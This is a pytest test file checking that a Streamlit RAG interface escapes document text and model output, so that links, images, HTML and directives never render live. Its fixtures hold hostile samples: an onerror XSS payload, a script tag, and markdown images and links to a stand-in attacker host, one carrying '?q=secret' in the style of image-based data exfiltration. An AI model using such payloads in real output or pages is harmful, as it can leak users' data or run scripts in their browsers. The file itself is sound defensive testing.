"""ui/render.py: what document text and model output become once Streamlit renders them.

The Markdown is rendered with markdown-it (CommonMark, as Streamlit's remark parses it), and
GFM's bare-URL autolinking is checked with the expressions Streamlit's frontend uses.
"""

from __future__ import annotations

import html
import re

import pytest

from ui.render import (
    answer_markdown,
    citation_badge,
    escape_markdown,
    message_markdown,
)

markdown_it = pytest.importorskip("markdown_it")
_md = markdown_it.MarkdownIt("commonmark").enable("strikethrough").enable("table")

# Streamlit's frontend (remark-gfm) turns these into links in the *parsed* text.
GFM_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.IGNORECASE)
GFM_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)")
# Streamlit's own directives: :red[text], :blue-badge[1], :material/icon:, ...
DIRECTIVE = re.compile(r":[a-z]+(-[a-z]+)?\[")

HOSTILE = (
    "# Heading\n**bold** _it_ *it* `code` ~~gone~~ [link](http://evil.example/a) "
    "![img](http://evil.example/?q=secret) <img src=x onerror=alert(1)> <b>html</b> "
    ":red[alarm] :material/warning: $x^2$ | a | b |\n- item\n1. one\n> quote\n---\n"
    "\\* escaped, see http://evil.example/b or www.evil.example, mail ceo@evil.example"
)


def rendered(markdown: str) -> str:
    return str(_md.render(markdown))


def visible_text(markdown: str) -> str:
    """The text a reader sees: the rendered HTML without tags, entities decoded."""
    return html.unescape(re.sub(r"<[^>]+>", "", rendered(markdown)))


def test_document_text_renders_as_exactly_itself() -> None:
    out = escape_markdown(HOSTILE)
    page = rendered(out)
    for tag in ("<h1", "<strong", "<em", "<code", "<del", "<a ", "<img", "<b>", "<ul", "<ol",
                "<blockquote", "<hr", "<table"):
        assert tag not in page, tag
    assert visible_text(out).replace("\u2060", "").split() == HOSTILE.split()
    plain = visible_text(out)
    assert not GFM_URL.search(plain) and not GFM_EMAIL.search(plain)  # no bare link either
    assert not DIRECTIVE.search(out) and ":material/warning:" not in out  # directives escaped
    assert "\\:red\\[alarm\\]" in out


def test_model_output_keeps_emphasis_and_lists_but_not_links_images_or_html() -> None:
    text = ("**HNSW** is a *graph* index [1].\n\n- fast\n- approximate\n\n"
            "[click](http://evil.example) ![x](http://evil.example/x.png) <script>x()</script> "
            "see http://evil.example or ask bob@evil.example :red[boo] $$x$$")
    out = answer_markdown(text, [1])
    page = rendered(out)
    assert "<strong>HNSW</strong>" in page and "<em>graph</em>" in page
    assert "<li>fast</li>" in page
    assert "<a " not in page and "<img" not in page and "<script" not in page
    plain = visible_text(out)
    assert "<script>x()</script>" in plain  # shown as text, not run
    assert "[click](http://evil.example)" in plain.replace("\u2060", "")
    assert not GFM_URL.search(plain) and not GFM_EMAIL.search(plain)
    # Our badge for [1] is the only directive; the model's :red[...] is not rendered.
    assert [m.group(0) for m in DIRECTIVE.finditer(out)] == [":blue-badge["]


def test_citations_of_given_sources_become_badges_others_stay_literal() -> None:
    out = answer_markdown("Use ef_search [2]; see also [1] and [7].", [1, 2, 3])
    assert citation_badge(2) in out and citation_badge(1) in out
    assert citation_badge(7) not in out
    assert "[7]" in visible_text(out)  # a number no source wears stays as written
    assert out.count("-badge[") == 2


def test_messages_keep_their_code_spans_and_escape_the_rest() -> None:
    out = message_markdown("Cannot read **notes**.md at http://x.example: run `rag ingest DIR`")
    page = rendered(out)
    assert "<code>rag ingest DIR</code>" in page
    assert "<strong" not in page
    assert not GFM_URL.search(visible_text(out))
